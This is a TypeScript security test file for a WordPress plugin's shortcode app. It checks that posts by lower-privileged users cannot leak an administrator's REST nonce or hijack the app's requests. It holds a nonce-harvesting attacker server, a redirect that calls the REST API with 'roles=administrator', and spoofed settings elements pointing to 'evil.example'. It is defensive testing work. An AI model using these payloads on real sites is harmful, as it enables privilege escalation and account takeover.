import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { wp, type Site } from '../lab/site.ts';
import { AJAX, refuse } from './refuse.ts';
import { enter, expect, test, type Page } from './test.ts';

// Authors and contributors may write HTML elements with any attributes, but no scripts. Their posts must not send a
// visitor's nonce to another server or change the requests of the visitor's page. If an administrator visits such a post, the
// author could otherwise become an administrator.

/**
 * Creates the user ann with this role, and a post by ann whose content WordPress filters as it does for that role.
 * Returns the post's URL.
 */
function post(site: Site, role: 'author' | 'contributor', content: (userId: number) => string): string {
  const id = wp(
    site,
    `return wp_insert_user( array( 'user_login' => 'ann', 'user_pass' => 'annpass', 'user_email' => 'ann@example.test', 'role' => '${role}' ) );`,
  ) as number;
  return wp(
    site,
    `wp_set_current_user( ${id} );
     kses_init();
     $published = current_user_can( 'publish_posts' );
     $post = wp_insert_post( wp_slash( array(
       'post_title'   => 'Read me',
       'post_status'  => $published ? 'publish' : 'draft',
       'post_content' => base64_decode( '${Buffer.from(content(id)).toString('base64')}' ),
     ) ) );
     return $published ? get_permalink( $post ) : home_url( "/?p=$post&preview=true" );`,
  ) as string;
}

const rolesOf = (site: Site): unknown => wp(site, `return get_user_by( 'login', 'ann' )->roles;`);

/**
 * Returns elements and blocks with a URL in every kind of attribute. WordPress removes the elements and blocks that the
 * role may not write.
 */
function elements(address: (name: string) => string): string {
  const cover = address('cover');
  const image = address('block');
  const link = address('navigation');
  return [
    `<img src="${address('img')}" alt="">`,
    `<img src='${address('quoted')}' alt="">`,
    `<img src="${address('sized')}" srcset="${address('srcset')} 2x" alt="">`,
    `<video src="${address('video')}" poster="${address('poster')}" controls></video>`,
    `<audio src="${address('audio')}" controls></audio>`,
    `<div style="background-image:url(${address('style')})">styled</div>`,
    `<blockquote cite="${address('cite')}">quoted</blockquote>`,
    `<object data="${address('object')}" type="application/pdf"></object>`,
    `<a href="${address('link')}">Read on</a>`,
    `<!-- wp:cover {"url":"${cover}"} --><div class="wp-block-cover"><img class="wp-block-cover__image-background" alt="" src="${cover}" data-object-fit="cover"/><div class="wp-block-cover__inner-container"></div></div><!-- /wp:cover -->`,
    `<!-- wp:image --><figure class="wp-block-image"><img src="${image}" alt=""/></figure><!-- /wp:image -->`,
    `<!-- wp:navigation-link {"label":"Navigate","url":"${link}"} /-->`,
  ].join('\n');
}

/**
 * An attacker's site. It records each request, and redirects to a URL that contains each part of the request that could
 * be a nonce.
 */
async function otherSite(leadTo: (nonce: string) => string) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const text = decodeURIComponent(`${request.url} ${JSON.stringify(request.headers)}`);
    asked.push(text);
    const leads = request.url?.startsWith('/lead/') === true;
    // A nonce of WordPress has ten hexadecimal digits.
    const nonce = /"nonce":"(\w+)"/.exec(text)?.[1] ?? /\b[0-9a-f]{10}\b/.exec(text)?.[0] ?? 'none';
    response.writeHead(leads ? 302 : 200, leads ? { location: leadTo(nonce) } : { 'content-type': 'image/png' }).end();
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return { asked, origin: `http://127.0.0.1:${port}`, close: () => void server.close() };
}

/** Returns the logged-in user's REST nonce, which WordPress gives to the site's own pages. */
const nonceOf = (page: Page): Promise<string> =>
  page.evaluate(async () => await (await fetch('/wp-admin/admin-ajax.php?action=rest-nonce')).text());

for (const role of ['author', 'contributor'] as const) {
  test(`a visitor's nonce does not reach another server through a post by a user with the role ${role}`, async ({
    page,
    context,
    ownSite,
  }) => {
    const site = await ownSite();
    let user = 0;
    const other = await otherSite(
      (nonce) => `${site.url}/wp-json/wp/v2/users/${user}?_method=POST&roles=administrator&_wpnonce=${nonce}`,
    );
    try {
      const address = post(site, role, (id) => {
        user = id;
        const shortcodes = ['[ddh_app page=fantasy]', '[ddh_app page=none]'];
        return ['lead', 'stay']
          .flatMap((way) =>
            shortcodes.map((shortcode, i) => elements((name) => `${other.origin}/${way}/${name}${i}?${shortcode}`)),
          )
          .join('\n');
      });
      await enter(context, site, 'admin');
      await page.goto(address, { waitUntil: 'networkidle' });
      for (const name of ['Read on', 'Navigate']) {
        for (const link of await page.getByRole('link', { name }).all()) {
          // Each link is opened in another tab, so that the post stays open.
          const tab = await context.newPage();
          await tab.goto((await link.getAttribute('href'))!, { referer: address });
          await tab.close();
        }
      }

      const secret = await nonceOf(page);
      expect(secret).toMatch(/^[0-9a-f]{10}$/);
      // Proves that the attack works: the other site receives the expanded shortcode.
      for (const name of ['img', 'quoted', 'poster', 'link', 'cover', 'block']) {
        for (const way of ['lead', 'stay']) {
          const reached = other.asked.filter((text) => text.startsWith(`/${way}/${name}0?`));
          expect([name, way, reached.length > 0]).toEqual([name, way, true]);
          expect(reached.join('\n')).toContain('ddh-root');
        }
      }
      expect.soft(other.asked.filter((text) => text.includes(secret))).toEqual([]);
      expect(rolesOf(site)).toEqual([role]);
    } finally {
      other.close();
    }
  });
}

test('HTML in a post by an author does not change the requests of the app, nor where it asks for a nonce', async ({
  page,
  context,
  ownSite,
}) => {
  const site = await ownSite();
  const address = post(site, 'author', (id) => {
    const rest = `/wp-json/wp/v2/users/${id}?_method=POST&amp;roles=administrator&amp;x=`;
    return (
      `<script type="application/json" id="ddh-settings">{"restUrl":"${rest}","dataUrl":"/evil","homeUrl":"/evil"}</script>` +
      `<div id="ddh-settings" type="application/json">{"restUrl":"${rest}"}</div>` +
      `<div id="ddh-root" data-page-id="19503" data-rest-url="${rest}" data-base="//evil.example" data-data-url="/evil" data-home-url="/evil" data-ajax-url="/evil">x</div>[ddh_app page="fantasy"]`
    );
  });
  const asked: string[] = [];
  page.on('request', (request) => void asked.push(request.url()));
  const posted: string[] = [];
  page.on('request', (request) => void (request.method() === 'POST' && posted.push(request.url())));
  refuse(site, AJAX, { status: 403 });
  await enter(context, site, 'admin');
  await page.goto(address);
  await expect(page.getByRole('button', { name: 'Create team' })).toBeVisible();
  expect(posted).toEqual([`${site.url}/`]);
  const calls = asked.filter((url) => url.includes('rest') || url.includes('wp-json'));
  expect(calls.length).toBeGreaterThan(0);
  const nonce = `${site.url}/wp-admin/admin-ajax.php?action=rest-nonce`;
  expect(calls.filter((url) => url !== nonce && !url.startsWith(`${site.url}/wp-json/ddh/v1/`))).toEqual([]);
  expect(asked.filter((url) => url.includes('evil'))).toEqual([]);
  expect(rolesOf(site)).toEqual(['author']);
});
